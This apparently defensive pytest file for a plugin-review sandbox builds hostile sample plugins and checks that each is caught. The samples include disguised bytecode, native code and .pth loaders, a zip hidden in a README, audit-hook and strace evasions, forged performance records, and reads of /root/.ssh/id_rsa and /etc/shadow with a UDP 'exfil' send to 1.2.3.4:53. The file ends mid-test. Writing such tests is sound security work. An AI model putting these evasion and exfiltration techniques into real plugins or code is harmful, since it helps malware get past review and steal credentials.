"""Hostile plugins, built here, each trying one way past the checks (issue 12). Each must be
caught: the finding names what was done, and it is one the gate blocks on (a critical finding,
or an open high/critical behaviour finding: the enforced policy no-serious-sandbox-behaviour).

Plugins that run only ever run inside bubblewrap: those tests skip where bwrap is missing.
"""

import importlib.util
import json
import os
import py_compile
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from decisions.management.commands.load_demo import EXPORTER, NOTIFIER_2, TELEMETRY
from governance.models import HostPlatform
from reviews.checks import CheckContext
from reviews.checks.behaviour import behaviour
from reviews.checks.eligibility import python_compiles
from reviews.checks.performance import performance_harness
from reviews.sandbox import command, runner
from reviews.sandbox.runner import SandboxError, isolation_available
from reviews.sandbox.tracer import tracer_available
from submissions.samples import PLUGIN_SOURCE
from tests.reviews.test_sandbox import TEST_LIMITS, manifest, sandbox_uid

needs_bwrap = pytest.mark.skipif(not isolation_available(), reason="bubblewrap (bwrap) is not installed")
MARKER = "HOSTILE-CODE-RAN"
HOSTILE = f"""
import os
print("{MARKER}", flush=True)
os.system("id")
exec("import socket")
dict(os.environ)

class Plugin:
    pass
"""
HONEST = "class Plugin:\n    pass\n"


@pytest.fixture(autouse=True)
def small_limits(settings):
    settings.WARDEN_SANDBOX_LIMITS = TEST_LIMITS


def plugin(tmp_path: Path, files: dict[str, bytes | str]) -> Path:
    root = tmp_path / "plugin"
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return root


def compiled(tmp_path: Path, source: str, *, as_name: str, unchecked: bool = False) -> bytes:
    """Bytecode of ``source`` whose code objects claim to come from ``as_name``."""
    src = tmp_path / "scratch.py"
    src.write_text(source)
    target = tmp_path / "scratch.pyc"
    mode = py_compile.PycInvalidationMode.UNCHECKED_HASH if unchecked else py_compile.PycInvalidationMode.TIMESTAMP
    py_compile.compile(str(src), cfile=str(target), dfile=as_name, doraise=True, invalidation_mode=mode)
    return target.read_bytes()


def eligibility(root: Path, **manifest_extra):
    data = manifest()
    data.update(manifest_extra)
    return python_compiles(CheckContext(version_id=0, plugin_id=0, manifest=data, root=root))


def behave(root: Path, **manifest_extra):
    data = manifest()
    data.update(manifest_extra)
    return behaviour(CheckContext(version_id=0, plugin_id=0, manifest=data, root=root))


def by_rule(outcome, rule: str):
    found = [f for f in outcome.findings if f.rule_id == rule]
    assert found, [(f.rule_id, f.title) for f in outcome.findings]
    return found[0]


def blocks_the_gate(finding) -> bool:
    """no-open-critical-findings, or no-serious-sandbox-behaviour."""
    return finding.severity == "critical" or (finding.kind == "behaviour" and finding.severity == "high")


def printed(outcome) -> str:
    return json.loads(outcome.report)["output"]


# 1. Nothing runs that was not read.


def test_a_sourceless_pyc_with_a_standard_library_name_is_refused_and_never_runs(tmp_path):
    root = plugin(tmp_path, {"probe.pyc": compiled(tmp_path, HOSTILE, as_name="/usr/lib/python3.11/json/decoder.py")})

    refused = by_rule(eligibility(root), "eligibility.bytecode")

    assert "probe.pyc" in refused.title and refused.data["files"] == ["probe.pyc"]
    assert blocks_the_gate(refused) and not eligibility(root).passed
    if isolation_available():
        outcome = behave(root)
        crash = by_rule(outcome, "behaviour.crash")
        assert "bytecode without its source is never run" in crash.message
        assert MARKER not in printed(outcome) and not outcome.passed


def test_a_shipped_pycache_that_shadows_honest_source_is_refused_and_the_source_runs(tmp_path):
    tag = importlib.util.cache_from_source("probe.py").split("/", 1)[1]  # probe.cpython-311.pyc
    root = plugin(
        tmp_path,
        {"probe.py": HONEST, f"__pycache__/{tag}": compiled(tmp_path, HOSTILE, as_name="probe.py", unchecked=True)},
    )

    refused = by_rule(eligibility(root), "eligibility.bytecode")

    assert "__pycache__/" in refused.title and refused.severity == "critical"
    if isolation_available():
        outcome = behave(root)
        assert MARKER not in printed(outcome)  # the reviewed source ran, not the shipped bytecode
        assert list(outcome.findings) == []


C_EXTENSION = r"""
#include <stdlib.h>
void *PyInit_probe(void) { system("id; echo NATIVE-RAN"); return 0; }
"""


@pytest.fixture
def native_probe(tmp_path):
    if shutil.which("gcc") is None:
        pytest.skip("no C compiler")
    source = tmp_path / "probe.c"
    source.write_text(C_EXTENSION)
    target = tmp_path / ("probe" + importlib.machinery.EXTENSION_SUFFIXES[0])
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(target), str(source)], check=True)  # noqa: S603, S607
    return target


def test_an_undeclared_c_extension_is_refused_and_never_loads(tmp_path, native_probe):
    root = plugin(tmp_path, {native_probe.name: native_probe.read_bytes()})

    refused = by_rule(eligibility(root), "eligibility.native-code")

    assert native_probe.name in refused.title and blocks_the_gate(refused)
    if isolation_available():
        outcome = behave(root)
        assert "native code the manifest does not declare" in by_rule(outcome, "behaviour.crash").message
        assert "NATIVE-RAN" not in printed(outcome)


def test_declared_native_code_is_flagged_for_human_review_with_the_file_list(tmp_path, native_probe):
    root = plugin(tmp_path, {native_probe.name: native_probe.read_bytes(), "disguised.dat": b"\x7fELF\x02\x01\x01"})

    outcome = eligibility(root, native={"reason": "a fast parser"})

    flagged = by_rule(outcome, "eligibility.native-code-review")
    assert flagged.severity == "medium" and flagged.data["files"] == ["disguised.dat", native_probe.name]
    assert outcome.passed  # a human reviewer decides, with the list in front of them


@pytest.mark.parametrize(
    ("files", "rule", "named"),
    [
        ({"probe.py": HONEST, "boot.pth": "import os; os.system('id')\n"}, "eligibility.pth-file", "boot.pth"),
        ({"probe.py": HONEST, "vendor/lib.egg": b"PK\x05\x06" + b"\0" * 18}, "eligibility.nested-archive", "lib.egg"),
        ({"probe.py": HONEST, "data/blob.bin": b"PK\x03\x04rest"}, "eligibility.nested-archive", "blob.bin"),
    ],
    ids=["pth", "egg", "zip-renamed"],
)
def test_pth_files_and_importable_archives_are_refused(tmp_path, files, rule, named):
    outcome = eligibility(plugin(tmp_path, files))

    refused = by_rule(outcome, rule)
    assert named in refused.title and blocks_the_gate(refused) and not outcome.passed


@needs_bwrap
def test_code_in_a_zip_the_plugin_puts_on_sys_path_is_not_imported(tmp_path):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("evilmod.py", HOSTILE)
    loader = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'evil.zip'))\n"
    root = plugin(tmp_path, {"probe.py": loader + "import evilmod\n" + HONEST, "evil.zip": archive.read_bytes()})

    outcome = behave(root)

    assert "No module named 'evilmod'" in by_rule(outcome, "behaviour.crash").message
    assert MARKER not in printed(outcome)


def test_an_honest_plugin_raises_nothing_new_in_eligibility(tmp_path):
    root = plugin(tmp_path, {"probe.py": HONEST, "docs/USAGE.md": "words " * 40, "plugin.toml": "[plugin]\n"})

    outcome = eligibility(root)

    assert outcome.passed and list(outcome.findings) == []


# 2. The report channel and the harness's end record.


@needs_bwrap
def test_a_forged_end_record_followed_by_an_early_exit_is_capture_evaded(tmp_path):
    forge = (
        "import json, os, sys\n"
        "fd = json.loads(sys.argv[1])['report_fd']\n"
        "os.system('id')\n"
        'os.write(fd, b\'{"type": "result", "phase": "done", "cpu_ms": 1.0, "peak_rss_kb": 1000}\\n\')\n'
        "os._exit(0)\n"
    )
    outcome = behave(plugin(tmp_path, {"probe.py": forge + HONEST}))

    evaded = by_rule(outcome, "behaviour.capture-evaded")
    assert "end record the harness did not write" in evaded.title
    assert blocks_the_gate(evaded) and not outcome.passed


# 2b. Behaviour observed where the plugin cannot reach: the system-call tracer (tracer.py).

needs_tracer = pytest.mark.skipif(
    not (isolation_available() and tracer_available()), reason="bubblewrap (bwrap) or strace is not installed"
)
# Each evasion of the audit hook the issue lists, as its own plugin, and what must name it.
EVASIONS = {
    "getframe": (
        "import os, sys\nsys._getframe = lambda *args: None\nos.system('id')\n",
        "behaviour.undeclared-subprocess",
        "Started a process: id",
    ),
    "gc-handlers": (
        "import gc, os\n"
        "for o in gc.get_objects():\n"
        "    if isinstance(o, dict) and 'socket.connect' in o and 'open' in o:\n"
        "        o.clear()\n"
        "os.system('id')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "busy-flag": (
        "import gc, os\n"
        "for o in gc.get_objects():\n"
        "    if type(o).__name__ == 'Behaviour':\n"
        "        o.local.busy = True\n"
        "os.system('id')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "relabelled-code": (
        "import os\n"
        "class Plugin:\n"
        "    def __init__(self):\n"
        "        os.system('id')\n"
        "Plugin.__init__.__code__ = Plugin.__init__.__code__.replace(co_filename='/usr/lib/python3/json/decoder.py')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "ctypes-pythonapi": (
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('id')\")\n",
        "behaviour.dynamic-code",
        "ctypes: PyRun_SimpleString",
    ),
    "ctypes-libc-system": (
        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "behaviour.capture-evaded",
        "execve /bin/sh sh -c id, a process the audit hook did not report",
    ),
    "posixsubprocess-fork-exec": (
        "import _posixsubprocess, os\n"
        "r, w = os.pipe()\n"
        "pid = _posixsubprocess.fork_exec([b'/usr/bin/id'], [b'/usr/bin/id'], True, (w,), None, None,\n"
        "    -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)\n"
        "os.waitpid(pid, 0)\n",
        "behaviour.capture-evaded",
        "execve /usr/bin/id /usr/bin/id, a process the audit hook did not report",
    ),
    "sendmsg-datagram": (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n"
        "    s.sendmsg([b'exfiltrated'], [], 0, ('10.1.2.3', 9))\n"
        "except OSError:\n"
        "    pass\n",
        "behaviour.undeclared-network",
        "Network access to 10.1.2.3:9 is not declared",
    ),
    "bind-listen": (
        "import socket\nserver = socket.socket()\nserver.bind(('127.0.0.1', 8080))\nserver.listen()\n",
        "behaviour.undeclared-network",
        "Bound a socket to 127.0.0.1:8080, undeclared",
    ),
    "environb": (
        "import os\nseen = dict(os.environb)\n",
        "behaviour.environment-enumeration",
        "Read the whole environment",
    ),
    "posix-environ": (
        "import posix\nhome = posix.environ[b'HOME']\n",
        "behaviour.environment-evasion",
        "Read the variable HOME through posix.environ",
    ),
    "exec-compiled-ast": (
        "import ast\nexec(compile(ast.parse(\"import os; os.system('id')\"), 'x', 'exec'))\n",
        "behaviour.dynamic-code",
        "ast: import os",
    ),
}


def _hostile(source: str) -> str:
    return source if "class Plugin" in source else source + HONEST


@needs_tracer
@pytest.mark.parametrize("case", list(EVASIONS), ids=list(EVASIONS))
def test_each_evasion_of_the_audit_hook_is_caught_and_named(tmp_path, case):
    source, rule, named = EVASIONS[case]

    outcome = behave(plugin(tmp_path, {"probe.py": _hostile(source)}))

    caught = [f for f in outcome.findings if f.rule_id == rule and named in f.title]
    assert caught, [(f.rule_id, f.title) for f in outcome.findings]
    assert blocks_the_gate(caught[0]) and not outcome.passed
    assert outcome.summary["tracer"] == "strace"


@needs_tracer
@pytest.mark.parametrize("case", ["gc-handlers", "busy-flag"])
def test_a_silenced_hook_is_itself_a_finding(tmp_path, case):
    outcome = behave(plugin(tmp_path, {"probe.py": _hostile(EVASIONS[case][0])}))

    titles = [f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert "Capture evaded: the audit hook stopped reporting: the harness's end-of-run check went unrecorded" in titles
    assert not any("/usr/bin/id" in title for title in titles)  # what the hidden shell ran is reported with it


@needs_tracer
def test_the_tracer_sees_the_datagram_and_the_listening_socket_the_hook_reports(tmp_path):
    source = EVASIONS["sendmsg-datagram"][0] + EVASIONS["bind-listen"][0]

    outcome = behave(plugin(tmp_path, {"probe.py": _hostile(source)}))

    traced = {(e["syscall"], e["target"]) for e in json.loads(outcome.report)["traced"]}
    assert {("sendmsg", "10.1.2.3:9"), ("bind", "127.0.0.1:8080"), ("listen", "127.0.0.1:8080")} <= traced
    assert not [f for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]  # the hook reported them


@needs_tracer
def test_declared_native_code_passes_eligibility_but_its_exec_is_seen(tmp_path, native_probe):
    root = plugin(tmp_path, {native_probe.name: native_probe.read_bytes()})
    assert eligibility(root, native={"reason": "a fast parser"}).passed  # for a human reviewer

    outcome = behave(root, native={"reason": "a fast parser"})

    evaded = [f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert "Capture evaded: execve /bin/sh sh -c id; echo NATIVE-RAN, a process the audit hook did not report" in evaded
    assert "NATIVE-RAN" in printed(outcome) and not outcome.passed


SHELL_FORGES_RECORDS = """
import json, os, sys
fd = json.loads(sys.argv[1])["report_fd"]
os.dup2(fd, 9)  # the harness made it close-on-exec; a duplicate is not
os.system("echo '{\\"type\\": \\"canary\\", \\"nonce\\": \\"x\\"}' >&9")
"""


@needs_tracer
def test_a_report_channel_written_by_a_program_the_plugin_ran_is_capture_evaded(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": SHELL_FORGES_RECORDS + HONEST}))

    evaded = [f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert any(
        t.startswith("Capture evaded: the report channel written by execve /bin/sh sh -c echo") for t in evaded
    ), [(f.rule_id, f.title) for f in outcome.findings]
    assert not outcome.passed


TRACER_ESCAPES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
traceme = libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME: already traced, refused
try:
    os.kill(1, 9)  # the sandbox's init; the tracer is not even in this PID namespace
    killed = "yes"
except OSError as error:
    killed = error.errno
status = open("/proc/self/status").read()
tracer = [line for line in status.splitlines() if line.startswith("TracerPid:")][0]
print("TRACEME", traceme, "KILL", killed, tracer, flush=True)
child = libc.syscall(56, 17 | 0x00800000, 0, 0, 0, 0)  # clone(SIGCHLD | CLONE_UNTRACED)
if child == 0:
    try:
        os.execv("/usr/bin/id", ["id"])
    except OSError as error:
        os._exit(error.errno)  # it cannot even write: write(2) is traced too
    os._exit(0)
print("UNTRACED-EXEC", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), flush=True)
libc.prctl(38, 1, 0, 0, 0)  # no new privileges, then a seccomp filter of its own
libc.prctl(22, 1, 0, 0, 0)
"""


@needs_tracer
def test_the_traced_tree_cannot_detach_kill_or_leave_the_tracer(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": TRACER_ESCAPES + HONEST}))

    output = printed(outcome)
    assert "TRACEME -1 KILL 1 TracerPid:\t0" in output  # refused, refused, and the tracer is out of sight
    assert "UNTRACED-EXEC 38" in output  # ENOSYS: a child hidden from the tracer can make no traced call
    evaded = {f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"}
    assert {
        "Capture evaded: ptrace(PTRACE_TRACEME) (failed), a way around the tracer",
        "Capture evaded: clone(CLONE_UNTRACED): a child hidden from the tracer, a way around the tracer",
    } <= evaded
    assert any("prctl(PR_SET_SECCOMP)" in title for title in evaded)


def _demo_plugin(tmp_path: Path, name: str, files: dict[str, bytes]) -> tuple[Path, dict]:
    module = name.replace("-", "_")
    root = plugin(tmp_path / name, {f"{module}/__init__.py": b"", f"{module}/plugin.py": PLUGIN_SOURCE, **files})
    data = manifest(benchmark=f"{module}.plugin:bench" if b"def bench" in files.get(f"{module}/plugin.py", b"") else "")
    data["plugin"]["entrypoint"] = f"{module}.plugin:Plugin"
    return root, data


@needs_tracer
@pytest.mark.parametrize(
    ("name", "files"),
    [
        ("acme-sample", {}),
        ("acme-exporter", {"acme_exporter/plugin.py": EXPORTER.format(seconds=0.002).encode()}),
        ("acme-notifier", NOTIFIER_2),
        ("globex-reporter", TELEMETRY),
        ("acme-shell", {"acme_shell/plugin.py": b"import subprocess\nclass Plugin:\n    def __init__(self):\n"
                        b"        subprocess.run(['id'], check=False)\n        subprocess.run('echo hi > /tmp/x', "
                        b"shell=True)\n"}),
        ("acme-forker", {"acme_forker/plugin.py": b"import os\nclass Plugin:\n    def __init__(self):\n"
                         b"        child = os.fork()\n        if child == 0:\n"
                         b"            open('/tmp/from-child', 'w')\n            open('/usr/lib/cannot-write', 'w')\n"
                         b"        else:\n            os.waitpid(child, 0)\n"}),
    ],
    ids=["sample", "exporter", "notifier", "telemetry", "subprocess-declared", "forking"],
)  # fmt: skip
def test_the_demo_plugins_raise_the_same_findings_with_the_tracer_as_without(tmp_path, name, files, monkeypatch):
    root, data = _demo_plugin(tmp_path, name, files)
    if name == "acme-shell":
        data["permissions"]["subprocess"] = True
    context = CheckContext(version_id=0, plugin_id=0, manifest=data, root=root)

    traced = behaviour(context)
    monkeypatch.setattr(runner.tracer, "tracer_available", lambda: False)
    untraced = behaviour(context)

    assert traced.summary["tracer"] == "strace" and untraced.summary["tracer"] == "none"
    assert sorted((f.rule_id, f.title) for f in traced.findings) == sorted(
        (f.rule_id, f.title) for f in untraced.findings
    )
    assert not [f for f in traced.findings if f.rule_id == "behaviour.capture-evaded"]


# 3. Performance measured from outside the plugin's process.

FORGED_PERFORMANCE = """
import __main__, json, os, sys, time

block = bytearray(120 * 1024 * 1024)  # 120 MB, touched
for i in range(0, len(block), 4096):
    block[i] = 1
deadline = time.process_time() + 0.4
while time.process_time() < deadline:  # 400 ms of CPU
    pass
__main__.usage = lambda: {"cpu_ms": 5.0, "peak_rss_kb": 9000}  # what the harness will report
fd = json.loads(sys.argv[1])["report_fd"]
for threads in (1, 2):
    record = {"type": "round", "threads": threads, "round": 0, "latencies_ms": [0.2] * 10, "seconds": 0.005}
    os.write(fd, (json.dumps(record) + "\\n").encode())


class Plugin:
    pass


def bench():
    time.sleep(0.02)
"""


@needs_bwrap
def test_forged_cpu_memory_latency_and_throughput_are_a_critical_finding_and_not_shown(tmp_path, settings, db):
    HostPlatform.objects.create(name="Host", api_version="2.4", is_default=True, resource_limits={})
    settings.WARDEN_PERFORMANCE = {"startup_runs": 1, "warmup_calls": 0, "rounds": 1, "calls_per_round": 10}
    root = plugin(tmp_path, {"probe.py": FORGED_PERFORMANCE})
    data = manifest(benchmark="probe:bench")
    data["plugin"]["category"] = "data-connector"

    outcome = performance_harness(CheckContext(version_id=0, plugin_id=0, manifest=data, root=root))

    forged = by_rule(outcome, "performance.forged-measurement")
    contradictions = " ".join(forged.data["contradictions"])
    assert "CPU time reported 5.0 ms" in contradictions and "peak RSS reported 8.8 MB" in contradictions
    assert "round figures written from inside the plugin's process" in contradictions
    assert forged.severity == "critical" and not outcome.passed
    shown = {(m["kpi"], m["concurrency"]): m["value"] for m in outcome.metrics}
    assert shown[("cpu_ms", None)] >= 400 and shown[("peak_rss_mb", None)] >= 120  # the kernel's figures
    typical = min(threads for kpi, threads in shown if kpi == "latency_p50_ms")
    assert shown[("latency_p50_ms", typical)] >= 20  # the runner's clock, not the forged 0.2 ms
    assert shown[("throughput_rps", typical)] <= typical * 50  # at most one call per 20 ms a thread


# 4. No isolation is never silent.


@pytest.fixture
def unisolated(settings):
    settings.WARDEN_SANDBOX_BWRAP = "/nonexistent/bwrap"
    settings.WARDEN_SANDBOX_ALLOW_UNISOLATED = True
    isolation_available.cache_clear()
    yield
    isolation_available.cache_clear()


UNISOLATED = "import os\nprint(os.getuid(), dict(os.environ))\n" + HONEST


def test_allowed_without_isolation_it_runs_with_an_empty_environment_and_says_so(tmp_path, unisolated, monkeypatch):
    monkeypatch.setenv("WARDEN_HOSTILE_SECRET", "s3cret")
    # a worker that can drop to a sandbox user (here this test's own, whose Python stays readable);
    # one that cannot runs nothing (test_without_isolation_a_worker_that_is_not_root_runs_no_plugin_code)
    monkeypatch.setattr(runner, "_user", lambda: {"uid": os.getuid(), "gid": os.getgid()})
    monkeypatch.setattr(command, "_reachable", lambda path: True)

    outcome = behave(plugin(tmp_path, {"probe.py": UNISOLATED}))

    finding = by_rule(outcome, "behaviour.unisolated")
    assert finding.title == "Ran without isolation" and blocks_the_gate(finding)
    assert not outcome.passed and outcome.summary["isolation"] == "none"
    output = printed(outcome)
    assert "s3cret" not in output and "DJANGO_SETTINGS_MODULE" not in output and "PATH" not in output


@pytest.mark.skipif(os.getuid() != 0, reason="the worker is not root: there is no user to drop to")
def test_allowed_without_isolation_a_root_worker_never_runs_plugin_code_as_root(tmp_path, unisolated, monkeypatch):
    """Where the sandbox user cannot read the Python installation, nothing runs at all."""
    monkeypatch.setattr(command, "_reachable", lambda path: False)
    with pytest.raises(SandboxError, match="never as root"):
        behave(plugin(tmp_path, {"probe.py": UNISOLATED}))


PYTHON_REACHABLE = command._reachable(Path(os.path.realpath(sys.base_prefix)))


@pytest.mark.skipif(os.getuid() != 0, reason="the worker is not root: there is no user to drop to")
@pytest.mark.skipif(not PYTHON_REACHABLE, reason="the sandbox user cannot read this Python installation")
def test_allowed_without_isolation_a_root_worker_runs_plugin_code_as_the_sandbox_user(tmp_path, unisolated):
    outcome = behave(plugin(tmp_path, {"probe.py": UNISOLATED}))

    assert sandbox_uid(int(printed(outcome).split()[0]))
    assert by_rule(outcome, "behaviour.unisolated").severity == "high"


# After review (issue 12): CPU and memory cannot be hidden in the process tree, honest subprocesses
# are not forgeries, and no isolation never means the worker's own user.


def startup(root: Path) -> runner.SandboxRun:
    from reviews.sandbox.environment import plugin_environment

    environment = plugin_environment(requirements=[])
    return runner.sandbox_run(mode="startup", plugin_root=root, environment=environment, entrypoint="probe:Plugin")


# A child that touches ``MB`` megabytes and burns ``CPU`` seconds of CPU time.
CHILD_WORK = (
    "x = bytearray({mb} * 1024 * 1024); x[::4096] = b'1' * len(x[::4096])\\n"
    "import time\\nt = time.process_time()\\nwhile time.process_time() - t < {cpu}: pass\\n"
)
OTHER_THREAD = f"""
import os, subprocess, sys, threading, time
ready = threading.Event()
def spawn():
    child = subprocess.Popen([sys.executable, "-c", "{CHILD_WORK.format(mb=150, cpu=0.5)}import os; os.write(1, b'done'); time.sleep(30)"], stdout=subprocess.PIPE)
    child.stdout.read(4)
    ready.set()
    time.sleep(60)  # the thread that started the child stays alive, and so does the child
threading.Thread(target=spawn, daemon=True).start()
ready.wait()
class Plugin:
    pass
"""  # noqa: E501


@needs_bwrap
def test_cpu_and_memory_of_a_child_started_from_another_thread_are_measured(tmp_path):
    run = startup(plugin(tmp_path, {"probe.py": OTHER_THREAD}))

    assert run.result is not None
    assert run.cpu_ms >= 450  # the child's 0.5 s (it was 36 ms: only the main thread's children were read)
    assert run.peak_rss_kb >= 150 * 1024 + run.harness_rss_kb * 0.9  # summed over the processes


EARLY_EXIT = f"""
import os, subprocess, sys, threading, time
done = threading.Event()
def spawn():
    zombie = subprocess.Popen([sys.executable, "-c", "{CHILD_WORK.format(mb=120, cpu=0.3)}time.sleep(0.3)"])
    while open(f"/proc/{{zombie.pid}}/stat").read().rsplit(")", 1)[1].split()[0] != "Z":
        time.sleep(0.01)  # exited, and never waited for
    done.set()
    time.sleep(60)
threading.Thread(target=spawn, daemon=True).start()
read, write = os.pipe()
middle = os.fork()
if middle == 0:  # a double fork: the grandchild is orphaned, then reaped by the sandbox's init
    if os.fork() == 0:
        os.close(read)
        t = time.process_time()
        while time.process_time() - t < 0.3:
            pass
        os._exit(0)
    os._exit(0)
os.close(write)
os.waitpid(middle, 0)
os.read(read, 1)  # end of file: the grandchild has exited
done.wait()
class Plugin:
    pass
"""


@needs_bwrap
def test_children_that_exit_before_the_end_record_zombie_or_orphan_are_still_counted(tmp_path):
    run = startup(plugin(tmp_path, {"probe.py": EARLY_EXIT}))

    assert run.result is not None and not run.forged
    assert run.cpu_ms >= 550  # 0.3 s in the zombie, 0.3 s in the orphan
    assert run.peak_rss_kb >= 120 * 1024  # sampled while the zombie-to-be was alive: its memory is gone now


HONEST_SUBPROCESS = """
import subprocess, sys
BURN = "import time\\nt = time.process_time()\\nwhile time.process_time() - t < 0.3: pass"
subprocess.run([sys.executable, "-c", BURN], check=True)
class Plugin:
    pass
"""


@needs_bwrap
def test_an_honest_plugin_running_a_subprocess_at_import_is_not_a_forged_measurement(tmp_path):
    run = startup(plugin(tmp_path, {"probe.py": HONEST_SUBPROCESS}))

    assert run.forged == []  # was: "CPU time reported 43.5 ms, measured by the kernel 335.5 ms"
    assert run.cpu_ms >= 300 and run.harness_reaped_cpu_ms >= 280  # the child's time, in the KPI
    assert run.result["children_cpu_ms"] >= 280


UNDER_REPORTED_CHILDREN = HONEST_SUBPROCESS.replace(
    "class Plugin:",
    "import __main__\nreal = __main__.usage\n"
    "__main__.usage = lambda: {**real(), 'children_cpu_ms': 0.0}  # SELF true, CHILDREN hidden\nclass Plugin:",
)


@needs_bwrap
def test_under_reporting_the_subprocesses_cpu_time_is_still_a_forged_measurement(tmp_path):
    run = startup(plugin(tmp_path, {"probe.py": UNDER_REPORTED_CHILDREN}))

    assert run.forged and run.forged[0].startswith("CPU time of finished subprocesses reported 0.0 ms, measured")
    assert run.cpu_ms >= 300  # the KPI is the kernel's either way


def test_without_isolation_a_worker_that_is_not_root_runs_no_plugin_code(tmp_path, unisolated, monkeypatch):
    monkeypatch.setattr(runner, "_user", lambda: {})  # a developer's laptop: the worker is not root
    ran = tmp_path / "ran"
    root = plugin(tmp_path, {"probe.py": f"open({str(ran)!r}, 'w').close()\n" + HONEST})

    with pytest.raises(SandboxError, match=r"not root and cannot become that user: plugin code was not run"):
        behave(root)

    assert not ran.exists()


# Issue 12 after review: code no scanner read, a hook silenced through its own state, and
# traffic explained away by a look-up.

APPENDED_ZIP = "zhidden"


def _readme_with_a_zip() -> bytes:
    import io

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as handle:
        handle.writestr(f"{APPENDED_ZIP}.py", f"print('{MARKER}', flush=True)\n")
    return b"# Probe plugin\n\n" + b"Some documentation words here. " * 10 + b"\n" + archive.getvalue()


UNREAD_LOADERS = {
    "txt-source-loader": (
        {"notes.txt": f"print('{MARKER}', flush=True)\n"},
        "import importlib.machinery, os\n"
        "importlib.machinery.SourceFileLoader('notes', os.path.join(os.path.dirname(__file__), 'notes.txt'))"
        ".load_module()\n",
        "code object from /sandbox/plugin/notes.txt",
    ),
    "zip-appended-to-readme": (
        {"README.md": _readme_with_a_zip()},
        "import os, zipimport\n"
        f"zipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'README.md')).load_module('{APPENDED_ZIP}')\n",
        "code object from /sandbox/plugin/README.md/zhidden.py",
    ),
    "timeit-string": ({}, f"import timeit\ntimeit.timeit(\"print('{MARKER}', flush=True)\", number=1)\n", MARKER),
}


@needs_bwrap
@pytest.mark.parametrize("case", list(UNREAD_LOADERS), ids=list(UNREAD_LOADERS))
def test_code_the_standard_library_compiles_from_a_file_no_scanner_read_is_dynamic_code(tmp_path, case):
    files, source, named = UNREAD_LOADERS[case]

    outcome = behave(plugin(tmp_path, {**files, "probe.py": source + HONEST}))

    assert MARKER in printed(outcome)  # it ran: what counts is that it is on record
    dynamic = [f for f in outcome.findings if f.rule_id == "behaviour.dynamic-code" and named in f.title]
    assert dynamic, [(f.rule_id, f.title) for f in outcome.findings]
    assert blocks_the_gate(dynamic[0]) and not outcome.passed


def test_a_zip_appended_to_a_documentation_file_is_refused_by_eligibility(tmp_path):
    root = plugin(tmp_path, {"probe.py": HONEST, "README.md": _readme_with_a_zip()})

    refused = by_rule(eligibility(root), "eligibility.nested-archive")

    assert refused.data["files"] == ["README.md"] and refused.severity == "critical"
    assert not eligibility(root).passed


GENERATED_BY_THE_STANDARD_LIBRARY = """
import ast, collections, dataclasses, typing

Point = collections.namedtuple("Point", ["x", "y"])


class Pair(typing.NamedTuple):
    left: int
    right: int


@dataclasses.dataclass(frozen=True)
class Settings:
    name: str = "acme"
    retries: int = 3


tree = ast.parse("1 + 2")  # parsed, never run


class Plugin:
    def __init__(self):
        self.settings = Settings()
        self.origin = Point(0, 0)
"""


@needs_tracer
def test_code_the_standard_library_generates_from_validated_names_is_not_dynamic_code(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": GENERATED_BY_THE_STANDARD_LIBRARY}))

    assert list(outcome.findings) == [], [(f.rule_id, f.title) for f in outcome.findings]
    assert outcome.passed


HOOK_STATE_REWRITTEN = """
import gc, os, socket
for o in gc.get_objects():
    if type(o).__name__ == "Behaviour":
        o.plugin_root = "/nowhere/"
for p in ("/root/.ssh/id_rsa", "/etc/shadow"):
    try:
        open(p).read()
    except OSError:
        pass
env = dict(os.environ)
s = socket.socket()
try:
    s.connect(("10.9.9.9", 443))
except OSError:
    pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"exfil", ("1.2.3.4", 53))
except OSError:
    pass
"""


@needs_tracer
def test_a_plugin_that_rewrites_the_hooks_plugin_root_is_caught_by_the_self_check_and_the_tracer(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": HOOK_STATE_REWRITTEN + HONEST}), permissions=_network())

    evaded = {f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"}
    assert "Capture evaded: the plugin changed the audit hook's own state (plugin_root)" in evaded, evaded
    assert any(t.startswith("Capture evaded: the audit hook did not report its self-check") for t in evaded)
    assert {
        "Capture evaded: openat /root/.ssh/id_rsa (failed), a read the audit hook did not report",
        "Capture evaded: openat /etc/shadow (failed), a read the audit hook did not report",
        "Capture evaded: connect 10.9.9.9:443 (failed), network traffic the audit hook did not report",
        "Capture evaded: sendto 1.2.3.4:53 (failed), network traffic the audit hook did not report",
    } <= evaded
    assert not outcome.passed


@needs_bwrap
def test_without_the_tracer_a_rewritten_plugin_root_is_still_capture_evaded(tmp_path, monkeypatch):
    monkeypatch.setattr(runner.tracer, "tracer_available", lambda: False)

